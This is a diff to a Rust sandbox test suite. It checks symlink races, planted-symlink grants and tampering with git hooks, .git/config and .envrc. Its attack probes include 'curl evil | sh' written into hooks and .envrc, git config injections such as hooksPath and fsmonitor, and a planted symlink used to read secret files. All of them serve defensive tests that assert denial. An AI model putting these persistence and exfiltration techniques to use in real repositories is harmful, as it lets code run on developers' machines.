@@ -8,7 +8,7 @@ use std::os::fd::AsRawFd;
 use std::time::Duration;
 
 use common::*;
-use strata::{ByteSize, Capability, Caps, ErrorKind, LimitKind, Strictness, Tool};
+use strata::{Access, ByteSize, Capability, Caps, ErrorKind, LimitKind, Mount, Strictness, Tool};
 
 /// A Python prelude giving probes `sc(nr, *args) -> (ret, errno)` via ctypes.
 const SYSCALL: &str = r#"
@@ -527,24 +527,136 @@ for p in ["/proc/1/exe", "/proc/1/mem", "/proc/1/environ", "/proc/1/root/etc"]:
 // ---------------------------------------------------------------- G: path races
 
 #[test]
-fn mount_source_given_through_a_symlink_is_resolved_once_on_the_host() {
+fn grant_follows_symlinks_only_when_asked_and_receipt_shows_resolved_path() {
     let canary = Canary::new();
     let real = tempfile::tempdir().expect("tempdir");
     std::fs::write(real.path().join("data.txt"), "granted").expect("write");
     let links = tempfile::tempdir().expect("tempdir");
     let link = links.path().join("current");
     std::os::unix::fs::symlink(real.path(), &link).expect("symlink");
-    let caps = Caps::new().read_only(&link);
-    let out = run(
-        &Tool::command(["cat", &format!("{}/data.txt", link.display())]),
-        &caps,
+    let cat = Tool::command(["cat", &format!("{}/data.txt", link.display())]);
+
+    let err = sandbox()
+        .run(&cat, &Caps::new().read_only(&link))
+        .expect_err("a symlinked grant is refused by default");
+    assert_eq!(err.kind(), ErrorKind::InvalidRequest, "{err}");
+    assert!(
+        err.to_string()
+            .contains(&format!("{} is a symlink", link.display())),
+        "{err}"
     );
+
+    let mount = Mount::new(link.clone(), link.clone(), Access::ReadOnly).follow_symlinks();
+    let out = run(&cat, &Caps::new().with_mount(mount));
     assert_eq!(ok_stdout(&out), "granted");
     let receipt = out.receipt.to_string();
     assert!(
-        receipt.contains(&real.path().display().to_string()),
-        "the receipt names the real source: {receipt}"
+        receipt.contains(&format!(
+            "{}={} (symlinks followed from {})",
+            link.display(),
+            real.path().display(),
+            link.display()
+        )),
+        "the receipt names the resolved source: {receipt}"
     );
+    assert!(canary.intact());
+}
+
+#[test]
+fn grant_does_not_follow_a_symlink_planted_by_an_earlier_run() {
+    let canary = Canary::new();
+    let ws = tempfile::tempdir().expect("tempdir");
+    let src = ws.path().join("src");
+    std::fs::create_dir(&src).expect("mkdir");
+    std::fs::write(src.join("main.py"), "print('hi')").expect("write");
+    // Run 1 may write the workspace: it replaces src with a link to the secret directory.
+    let out = run(
+        &sh(&format!(
+            "rm -rf {src} && ln -s {secret_dir} {src} && echo planted",
+            src = src.display(),
+            secret_dir = canary.dir.path().display()
+        )),
+        &Caps::new().read_write(ws.path()),
+    );
+    assert_eq!(ok_stdout(&out).trim(), "planted");
+    assert!(std::fs::symlink_metadata(&src)
+        .expect("link")
+        .file_type()
+        .is_symlink());
+    // Run 2 is granted only src, read-only: refused before anything runs, naming the link.
+    let marker = tempfile::tempdir().expect("tempdir");
+    let flag = marker.path().join("ran");
+    let steal = sh(&format!(
+        "cat {}/secret.txt; touch {}",
+        src.display(),
+        flag.display()
+    ));
+    for grant in [src.clone(), src.join("nested")] {
+        let caps = Caps::new().read_only(&grant).read_write(marker.path());
+        let err = sandbox().run(&steal, &caps).expect_err("planted symlink");
+        assert_eq!(err.kind(), ErrorKind::InvalidRequest, "{err}");
+        let text = err.to_string();
+        assert!(text.contains(&grant.display().to_string()), "{text}");
+        assert!(
+            text.contains(&format!("{} is a symlink", src.display())),
+            "{text}"
+        );
+        assert!(
+            text.contains("follow_symlinks"),
+            "says how to opt in: {text}"
+        );
+        assert!(!text.contains(SECRET));
+    }
+    assert!(!flag.exists(), "nothing ran");
+    assert!(canary.intact());
+}
+
+#[test]
+fn grant_swapped_for_a_symlink_between_planning_and_mounting_fails_the_run() {
+    use strata::sandbox_os::{plan, protocol, supervise};
+    let canary = Canary::new();
+    let ws = tempfile::tempdir().expect("tempdir");
+    let src = ws.path().join("src");
+    std::fs::create_dir(&src).expect("mkdir");
+    let tool = sh(&format!("cat {}/secret.txt", src.display()));
+    let caps = Caps::new().read_only(&src);
+    // Planned while src is a real directory (uid and cgroup facts do not matter here).
+    let facts = plan::Facts {
+        uid: 0,
+        gid: 0,
+        memory_cgroup: false,
+        pids_cgroup: false,
+        mapped_identity: false,
+    };
+    let (spec, command) = plan::plan(&tool, &caps, &facts, &plan::RealHost).expect("plan");
+    // Then swapped for a link to the secret before the helper mounts it.
+    std::fs::remove_dir(&src).expect("rmdir");
+    std::os::unix::fs::symlink(canary.dir.path(), &src).expect("symlink");
+    let prepared = supervise::prepare(std::path::Path::new(helper()), &spec).expect("spawn");
+    let outcome = supervise::run(
+        prepared,
+        &command,
+        supervise::Input {
+            bytes: &[],
+            stream: None,
+        },
+        1 << 20,
+        None,
+        &strata::RunContext::default(),
+    )
+    .expect("outcome");
+    let failed = outcome.events.iter().find_map(|e| match e {
+        protocol::Event::SetupFailed { stage, errno, .. } => Some((stage.clone(), *errno)),
+        _ => None,
+    });
+    let (stage, errno) = failed.expect("the helper refuses to mount through the swapped link");
+    assert!(stage.contains("open mount source"), "{stage}");
+    assert_eq!(errno, libc::ELOOP, "{stage}");
+    assert!(!outcome
+        .events
+        .iter()
+        .any(|e| matches!(e, protocol::Event::Started)));
+    assert!(!String::from_utf8_lossy(&outcome.stdout).contains(SECRET));
     assert!(canary.intact());
 }
 
@@ -566,6 +678,303 @@ fn outputs_are_copied_out_without_following_sandbox_symlinks() {
     let meta = std::fs::symlink_metadata(work.path().join("result.txt")).expect("link exists");
     assert!(meta.file_type().is_symlink());
     assert!(canary.intact());
+}
+
+// ---------------------------------------------------------------- E2: host-executed files in writable grants
+
+const HOOK: &str = "#!/bin/sh\necho original hook\n";
+const GIT_CONFIG: &str = "[core]\n\trepositoryformatversion = 0\n";
+const ENVRC: &str = "export ORIGINAL=1\n";
+
+/// A repository-shaped workspace: a hook, a git config, an `.envrc` and a source file.
+struct Workspace {
+    dir: tempfile::TempDir,
+}
+
+impl Workspace {
+    fn new() -> Self {
+        use std::os::unix::fs::PermissionsExt;
+        let dir = tempfile::tempdir().expect("tempdir");
+        let root = dir.path();
+        for sub in [".git/hooks", ".git/objects", "src"] {
+            std::fs::create_dir_all(root.join(sub)).expect("mkdir");
+        }
+        std::fs::write(root.join(".git/hooks/pre-commit"), HOOK).expect("hook");
+        std::fs::set_permissions(
+            root.join(".git/hooks/pre-commit"),
+            std::fs::Permissions::from_mode(0o755),
+        )
+        .expect("chmod");
+        std::fs::write(root.join(".git/config"), GIT_CONFIG).expect("config");
+        std::fs::write(root.join(".envrc"), ENVRC).expect("envrc");
+        std::fs::write(root.join("src/main.rs"), "fn main() {}\n").expect("src");
+        Workspace { dir }
+    }
+
+    fn path(&self, rel: &str) -> std::path::PathBuf {
+        self.dir.path().join(rel)
+    }
+
+    fn root(&self) -> String {
+        self.dir.path().display().to_string()
+    }
+
+    fn mode(&self, rel: &str) -> u32 {
+        use std::os::unix::fs::PermissionsExt;
+        std::fs::symlink_metadata(self.path(rel))
+            .expect("stat")
+            .permissions()
+            .mode()
+            & 0o7777
+    }
+
+    fn names(&self, rel: &str) -> Vec<String> {
+        let mut names: Vec<String> = std::fs::read_dir(self.path(rel))
+            .expect("read_dir")
+            .map(|e| e.expect("entry").file_name().to_string_lossy().into_owned())
+            .collect();
+        names.sort();
+        names
+    }
+
+    /// The host-side evidence: every protected file as it was planted.
+    fn assert_untouched(&self) {
+        assert_eq!(
+            std::fs::read_to_string(self.path(".git/hooks/pre-commit")).expect("hook"),
+            HOOK
+        );
+        assert_eq!(self.mode(".git/hooks/pre-commit"), 0o755);
+        assert_eq!(self.names(".git/hooks"), ["pre-commit"]);
+        assert_eq!(
+            std::fs::read_to_string(self.path(".git/config")).expect("config"),
+            GIT_CONFIG
+        );
+        assert_eq!(
+            std::fs::read_to_string(self.path(".envrc")).expect("envrc"),
+            ENVRC
+        );
+        let top = self.names(".");
+        assert!(
+            top.iter()
+                .all(|n| !n.starts_with(".git.") && n != ".envrc.new"),
+            "{top:?}"
+        );
+    }
+}
+
+/// Runs each named Python expression in the sandbox and returns `name:ALLOWED` or
+/// `name:ERRNO` per attack, one per line.
+fn attacks(ws: &Workspace, caps: &Caps, attacks: &[(&str, &str)]) -> String {
+    let mut code = format!("import os, errno\nws = {:?}\nresults = []\n", ws.root());
+    for (name, body) in attacks {
+        code.push_str(&format!(
+            "def attack():\n    {}\ntry:\n    attack(); results.append('{name}:ALLOWED')\nexcept OSError as e:\n    results.append('{name}:' + errno.errorcode[e.errno])\n",
+            body.replace('\n', "\n    ")
+        ));
+    }
+    code.push_str("print('\\n'.join(results))\n");
+    ok_stdout(&run(&py(&code), caps))
+}
+
+fn assert_all_denied(report: &str, count: usize) {
+    assert_eq!(report.lines().count(), count, "{report}");
+    assert!(!report.contains("ALLOWED"), "{report}");
+}
+
+#[test]
+fn git_hook_in_rw_grant_cannot_be_written() {
+    let ws = Workspace::new();
+    let caps = Caps::new().read_write(ws.dir.path());
+    let report = attacks(
+        &ws,
+        &caps,
+        &[
+            ("overwrite", "open(ws + '/.git/hooks/pre-commit', 'w').write('curl evil | sh')"),
+            ("append", "open(ws + '/.git/hooks/pre-commit', 'a').write('curl evil | sh')"),
+            ("truncate", "os.truncate(ws + '/.git/hooks/pre-commit', 0)"),
+            ("chmod", "os.chmod(ws + '/.git/hooks/pre-commit', 0o4777)"),
+            ("new_hook", "open(ws + '/.git/hooks/post-checkout', 'w').write('evil')"),
+            ("delete", "os.unlink(ws + '/.git/hooks/pre-commit')"),
+            (
+                "delete_and_recreate",
+                "os.unlink(ws + '/.git/hooks/pre-commit')\nopen(ws + '/.git/hooks/pre-commit', 'w').write('evil')",
+            ),
+            ("rename_hooks_away", "os.rename(ws + '/.git/hooks', ws + '/.git/hooks.old')"),
+            ("remove_hooks_dir", "os.rmdir(ws + '/.git/hooks')"),
+            (
+                "replace_hook_by_rename",
+                "open(ws + '/src/x', 'w').write('evil')\nos.rename(ws + '/src/x', ws + '/.git/hooks/pre-commit')",
+            ),
+        ],
+    );
+    assert_all_denied(&report, 10);
+    ws.assert_untouched();
+}
+
+#[test]
+fn git_config_and_git_dir_in_rw_grant_cannot_be_replaced() {
+    let ws = Workspace::new();
+    let caps = Caps::new().read_write(ws.dir.path());
+    let report = attacks(
+        &ws,
+        &caps,
+        &[
+            ("write_config", "open(ws + '/.git/config', 'a').write('[core]\\n\\thooksPath = /tmp\\n')"),
+            (
+                "replace_config_by_rename",
+                "open(ws + '/.git/config.lock', 'w').write('[core]\\n\\tfsmonitor = evil\\n')\nos.rename(ws + '/.git/config.lock', ws + '/.git/config')",
+            ),
+            ("delete_config", "os.unlink(ws + '/.git/config')"),
+            (
+                "rename_git_dir_aside",
+                "os.rename(ws + '/.git', ws + '/.git.old')\nos.makedirs(ws + '/.git/hooks')\nopen(ws + '/.git/hooks/pre-commit', 'w').write('evil')",
+            ),
+        ],
+    );
+    assert_all_denied(&report, 4);
+    ws.assert_untouched();
+}
+
+#[test]
+fn envrc_in_rw_grant_cannot_be_replaced() {
+    let ws = Workspace::new();
+    let caps = Caps::new().read_write(ws.dir.path());
+    let report = attacks(
+        &ws,
+        &caps,
+        &[
+            ("overwrite", "open(ws + '/.envrc', 'w').write('curl evil | sh')"),
+            ("chmod", "os.chmod(ws + '/.envrc', 0o777)"),
+            ("delete", "os.unlink(ws + '/.envrc')"),
+            (
+                "rename_over",
+                "open(ws + '/.envrc.new', 'w').write('curl evil | sh')\nos.rename(ws + '/.envrc.new', ws + '/.envrc')",
+            ),
+            ("hard_link_elsewhere", "os.link(ws + '/.envrc', ws + '/src/envrc')"),
+        ],
+    );
+    assert_all_denied(&report, 5);
+    let _ = std::fs::remove_file(ws.path(".envrc.new"));
+    ws.assert_untouched();
+    assert!(!ws.path("src/envrc").exists());
+}
+
+#[test]
+fn rw_grant_stays_writable_around_host_executed_paths_and_receipt_lists_them() {
+    let ws = Workspace::new();
+    let caps = Caps::new().read_write(ws.dir.path());
+    // Honest work: edit sources, write git objects, git's lock-and-rename of its index.
+    let out = run(
+        &sh(&format!(
+            "cd {root} && echo 'fn main() {{ println!(); }}' > src/main.rs && echo blob > .git/objects/ab \
+             && echo idx > .git/index.lock && mv .git/index.lock .git/index && mkdir -p build && echo ok",
+            root = ws.root()
+        )),
+        &caps,
+    );
+    assert_eq!(ok_stdout(&out).trim(), "ok");
+    assert!(std::fs::read_to_string(ws.path("src/main.rs"))
+        .expect("src")
+        .contains("println"));
+    assert_eq!(
+        std::fs::read_to_string(ws.path(".git/index")).expect("index"),
+        "idx\n"
+    );
+    assert!(ws.path(".git/objects/ab").exists() && ws.path("build").is_dir());
+    ws.assert_untouched();
+    let receipt = out.receipt.to_string();
+    for protected in [".envrc", ".git/config", ".git/hooks"] {
+        assert!(
+            receipt.contains(&ws.path(protected).display().to_string()),
+            "{protected} listed: {receipt}"
+        );
+    }
+    assert!(
+        out.receipt
+            .has(Capability::Fs, "read-only binds over writable grants"),
+        "{receipt}"
+    );
+    assert!(
+        receipt.contains(&format!("{root}={root}", root = ws.root())),
+        "the grant's resolved path: {receipt}"
+    );
+}
+
+#[test]
+fn host_executed_protection_can_be_opted_out() {
+    let ws = Workspace::new();
+    let caps = Caps::new()
+        .read_write(ws.dir.path())
+        .allow_host_executed_writes();
+    let out = run(
+        &sh(&format!(
+            "echo 'echo edited' >> {root}/.git/hooks/pre-commit && echo 'export EDITED=1' > {root}/.envrc && echo ok",
+            root = ws.root()
+        )),
+        &caps,
+    );
+    assert_eq!(ok_stdout(&out).trim(), "ok");
+    assert!(std::fs::read_to_string(ws.path(".git/hooks/pre-commit"))
+        .expect("hook")
+        .ends_with("echo edited\n"));
+    assert_eq!(
+        std::fs::read_to_string(ws.path(".envrc")).expect("envrc"),
+        "export EDITED=1\n"
+    );
+    assert!(
+        out.receipt
+            .gaps
+            .iter()
+            .any(|g| g.capability == Capability::Fs && g.reason.contains("by request")),
+        "the opt-out is in the receipt: {}",
+        out.receipt
+    );
+}
+
+#[test]
+fn symlinked_host_executed_path_in_rw_grant_refuses_the_run() {
+    let home = tempfile::tempdir().expect("tempdir");
+    std::fs::create_dir(home.path().join("dotfiles")).expect("mkdir");
+    std::fs::write(home.path().join("dotfiles/bashrc"), "alias ll='ls -l'\n").expect("write");
+    std::os::unix::fs::symlink("dotfiles/bashrc", home.path().join(".bashrc")).expect("link");
+    let marker = home.path().join("ran");
+    let tool = sh(&format!("touch {}", marker.display()));
+    let caps = Caps::new().read_write(home.path());
+    let err = sandbox().run(&tool, &caps).expect_err("refused");
+    assert_eq!(err.kind(), ErrorKind::InvalidRequest, "{err}");
+    assert!(
+        err.to_string().contains(&format!(
+            "{} is a symlink",
+            home.path().join(".bashrc").display()
+        )),
+        "{err}"
+    );
+    assert!(!marker.exists());
+    run(&tool, &caps.allow_host_executed_writes());
+    assert!(marker.exists(), "runs once the caller opts out");
+}
+
+#[test]
+fn documented_gap_a_missing_hooks_dir_can_still_be_created() {
+    // Protection covers what exists when the run starts. A repository without .git/hooks
+    // gets one from the tool: the transactional workspace (a diff the caller reviews) is
+    // what closes this; this test pins the documented behaviour.
+    let ws = tempfile::tempdir().expect("tempdir");
+    std::fs::create_dir_all(ws.path().join(".git/objects")).expect("mkdir");
+    let out = run(
+        &sh(&format!(
+            "mkdir {root}/.git/hooks && echo evil > {root}/.git/hooks/pre-commit && echo created",
+            root = ws.path().display()
+        )),
+        &Caps::new().read_write(ws.path()),
+    );
+    assert_eq!(ok_stdout(&out).trim(), "created");
+    assert!(ws.path().join(".git/hooks/pre-commit").exists());
+    assert!(
+        out.receipt.to_string().contains("can still create one"),
+        "{}",
+        out.receipt
+    );
 }
 
 // ---------------------------------------------------------------- H: signals, ptrace, kernel objects
